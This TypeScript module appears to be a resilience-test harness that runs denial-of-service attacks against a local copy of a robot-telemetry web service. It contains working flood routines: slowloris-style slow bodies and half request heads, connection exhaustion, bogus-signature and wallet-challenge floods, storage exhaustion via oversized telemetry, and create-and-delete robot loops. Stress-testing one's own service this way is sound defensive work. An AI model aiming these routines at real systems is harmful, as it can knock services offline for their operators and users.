import { randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';

/** What an attack knows of the service. */
export interface Target {
  host: string;
  port: number;
  /** Robots of free accounts, one each, with the session cookies of their owners. */
  robots: { id: string; apiKey: string; session: string }[];
  /** A proof hash that anybody may verify. */
  proofHash: string;
}

/** The sources of the attacks: Linux takes every address of 127.0.0.0/8 as its own. The victim's is 127.0.0.1. */
const SOURCE = '127.0.0.2';

const newAddress = () => privateKeyToAccount(generatePrivateKey()).address;

/** Runs until the process is ended. An error of a connection is what an attacker expects. */
export const attacks: Record<string, (target: Target) => Promise<void>> = {
  /** Row 1: wrong signatures, each tried with 60 challenges, 40 a second. */
  async signatures(target) {
    const { address } = privateKeyToAccount(generatePrivateKey());
    const signature = `0x${'11'.repeat(32)}${'22'.repeat(32)}1b`;
    for (let i = 0; i < 60; i += 1) await post(target, '/api/auth/challenge', { address });
    for (;;) {
      void post(target, '/api/auth/verify', { address, signature });
      await sleep(25);
    }
  },

  /** Row 2: 12 accounts store 0.8 MB of samples in each request, 36 requests a second: 1.7 GB a minute. */
  async storage(target) {
    const metrics = { note: 'x'.repeat(16_000) };
    for (let n = 0; ; n += 1) {
      const sender = target.robots[n % target.robots.length]?.apiKey ?? '';
      void ask(target, 'POST', '/api/v1/telemetry', bearer(sender), fiftyOf({ metrics }));
      await sleep(28);
    }
  },

  /** Row 7: one account queues 400 proofs with 4 robots and deletes the robots, over and over. */
  async deletions(target) {
    const owner = cookie(target.robots[0]?.session);
    const round = async () => {
      const made = await ask(target, 'POST', '/api/v1/robots', owner, { name: 'arm' });
      const robot = made?.robot?.id ?? randomUUID();
      const key = bearer(made?.api_key ?? `svc_${'0'.repeat(40)}`);
      const ids = Array.from({ length: 100 }, () => randomUUID());
      await Promise.all(
        ids.map((id) => ask(target, 'POST', '/api/v1/tasks', key, { id, title: 'Sort' })),
      );
      for (const id of ids) {
        void ask(target, 'POST', `/api/v1/tasks/${id}/complete`, key, { proof: { id } });
      }
      await sleep(500);
      await ask(target, 'DELETE', `/api/v1/robots/${robot}`, owner);
    };
    const again = async () => {
      for (;;) await round();
    };
    await Promise.all(Array.from({ length: 4 }, again));
  },

  /** Row 3: 192 slow connections of 12 accounts, each announcing 2 MiB and sending 32 KiB in 45 s. */
  async bodies({ host, port, robots }) {
    const open = async (apiKey: string) => {
      for (;;) {
        const socket = connect({ host, port, localAddress: SOURCE });
        socket.on('error', () => {});
        socket.write(
          `POST /api/v1/telemetry HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${apiKey}\r\n` +
            'content-type: application/json\r\ncontent-length: 2097152\r\n\r\n{',
        );
        for (let sent = 0; sent < 45 && !socket.destroyed; sent += 1) {
          socket.write(' '.repeat(700));
          await sleep(1000);
        }
        socket.destroy();
        await sleep(100);
      }
    };
    await Promise.all(Array.from({ length: 192 }, (_, i) => open(robots[i % 12]?.apiKey ?? '')));
  },

  /** Row 4: verifications on 160 connections, without a pause. */
  async verifications(target) {
    const again = async () => {
      for (;;) await get(target, `/api/v1/verify/${target.proofHash}`);
    };
    await Promise.all(Array.from({ length: 160 }, again));
  },

  /** Row 9: one address opens every connection that it can. */
  async connections({ host, port }) {
    for (;;) {
      for (let i = 0; i < 100; i += 1)
        connect({ host, port, localAddress: SOURCE }).on('error', () => {});
      await sleep(50);
    }
  },

  /** One address holds every connection that it can, each with half a request head. Through `deploy/nginx.conf`. */
  async heads({ host, port }) {
    for (;;) {
      for (let i = 0; i < 100; i += 1) {
        const socket = connect({ host, port, localAddress: SOURCE }).on('error', () => {});
        socket.write('GET /api/chain HTTP/1.1\r\nhost: x\r\n');
      }
      await sleep(50);
    }
  },

  /** 12 accounts store 200 samples of 4 KB each, and read them without a pause on 4 connections each. */
  async downloads(target) {
    const samples = fiftyOf({ metrics: { note: 'x'.repeat(4_000) } });
    const download = async ({ id, apiKey, session }: Target['robots'][number]) => {
      for (let i = 0; i < 4; i += 1) {
        await ask(target, 'POST', '/api/v1/telemetry', bearer(apiKey), samples);
      }
      const path = `/api/v1/robots/${id}/telemetry?limit=200`;
      const again = async () => {
        for (;;) await ask(target, 'GET', path, cookie(session));
      };
      await Promise.all(Array.from({ length: 4 }, again));
    };
    await Promise.all(target.robots.map(download));
  },

  /** Row 16: challenges of new wallets, 400 a second. */
  async challenges(target) {
    const addresses = Array.from({ length: 200 }, newAddress);
    for (let i = 0; ; i += 1) {
      void post(target, '/api/auth/challenge', { address: addresses[i % addresses.length] });
      if (i % 4 === 0) await sleep(10);
    }
  },
};

const agent = new Agent({ keepAlive: true, maxSockets: 200 });

const post = (target: Target, path: string, body: object) =>
  call(target, { method: 'POST', path, headers: { 'content-type': 'application/json' } }, body);

const get = (target: Target, path: string) => call(target, { method: 'GET', path });

const bearer = (apiKey: string) => ({ authorization: `Bearer ${apiKey}` });

const cookie = (session = '') => ({ cookie: `svc_session=${session}` });

const fiftyOf = (sample: object) => ({ samples: Array.from({ length: 50 }, () => sample) });

/** After this time without an answer the attack goes on: the control never answers. */
const ANSWER_MS = 1000;

/** The answer's body; null if none came in time. Each call has a connection of its own. */
function ask(
  { host, port }: Target,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: object,
  // biome-ignore lint/suspicious/noExplicitAny: an attack sends on what it finds.
): Promise<any> {
  return new Promise((resolve) => {
    const options = { host, port, localAddress: SOURCE, agent: false, method, path } as const;
    const type = body === undefined ? {} : { 'content-type': 'application/json' };
    const sent = request({ ...options, headers: { ...headers, ...type } }, (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (part: string) => {
        if (text.length < 10_000) text += part;
      });
      response.once('error', () => resolve(null));
      response.once('end', () => {
        try {
          resolve(JSON.parse(text));
        } catch {
          resolve(null);
        }
      });
    });
    const timer = setTimeout(() => {
      resolve(null);
      // A completion waits for its anchor.
      if (!path.endsWith('/complete')) sent.destroy();
    }, ANSWER_MS);
    sent.once('close', () => clearTimeout(timer));
    sent.once('error', () => resolve(null));
    sent.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

/** Resolves with the end of the response, or of the connection. */
function call({ host, port }: Target, options: object, body?: object): Promise<void> {
  return new Promise((resolve) => {
    const sent = request({ host, port, localAddress: SOURCE, agent, ...options }, (response) => {
      response.resume().once('close', resolve);
    });
    sent.once('error', () => setTimeout(resolve, 10));
    sent.end(body === undefined ? undefined : JSON.stringify(body));
  });
}
